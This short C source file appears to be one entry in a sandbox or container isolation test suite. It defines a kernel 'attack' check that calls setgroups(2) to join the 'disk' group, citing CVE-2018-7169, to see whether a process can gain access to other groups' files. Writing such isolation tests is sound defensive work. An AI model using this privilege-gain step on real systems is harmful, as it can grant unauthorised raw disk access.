/* Groups of the host's. */
#include "../attack.h"

ATTACK(KERNEL, "privileges", .gain = "files of other groups",
       .source = "setgroups(2); CVE-2018-7169", .works = AS_ROOT)
{
	gid_t group = 6; /* disk */

	return syscall(SYS_setgroups, 1, &group);
}
